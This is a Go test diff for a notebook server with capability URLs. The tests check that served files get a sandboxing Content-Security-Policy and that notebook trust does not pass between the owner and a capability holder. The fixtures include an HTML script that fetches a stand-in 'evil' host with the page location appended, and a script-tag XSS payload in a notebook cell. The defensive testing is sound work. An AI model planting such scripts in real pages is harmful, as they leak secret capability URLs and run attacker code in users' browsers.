@@ -180,3 +180,31 @@ func TestPathsInOutputsAreResolvedWithinTheWorkspace(t *testing.T) {
 		t.Errorf("of no kernel: %s", got)
 	}
 }
+
+// The secret of a capability is in the address of what it opens, and a capability
+// is handed to programs that may do less than who made it.
+func TestCapabilityIsNeitherReadByFilesNorTrustsForItsMaker(t *testing.T) {
+	g := start(t)
+	at := g.capability("math") + "/"
+	g.file("math", "a.html", "<script>fetch('//evil/'+location)</script>")
+	csp := g.want(g.do("GET", at+"files/a.html", ""), 200).Header.Get("Content-Security-Policy")
+	if !strings.HasSuffix(csp, "; sandbox") {
+		t.Errorf("a file below a secret is served with %q", csp)
+	}
+
+	const cell = `{"cell_type":"code","source":"","execution_count":1,"id":"a","outputs":[{"output_type":"display_data","metadata":{},` +
+		`"data":{"text/html":"<script>alert(1)</script>"}}],"metadata":{"trusted":true}}`
+	g.want(g.do("PUT", at+"api/contents/x.ipynb",
+		`{"type":"notebook","content":{"cells":[`+cell+`],"metadata":{},"nbformat":4,"nbformat_minor":5}}`), 201)
+	trusted := func(r reply) bool { return strings.Contains(g.want(r, 200).body, `"trusted":true`) }
+	if trusted(g.ada("GET", "/api/contents/x.ipynb", "")) {
+		t.Error("who made the capability trusts what came by it")
+	}
+	if !trusted(g.do("GET", at+"api/contents/x.ipynb", "")) {
+		t.Error("a client that comes by a capability does not find again what it trusted")
+	}
+	g.want(g.ada("POST", "/api/contents/x.ipynb/trust", ""), 201)
+	if !trusted(g.ada("GET", "/api/contents/x.ipynb", "")) {
+		t.Error("trust of one's own does not hold")
+	}
+}
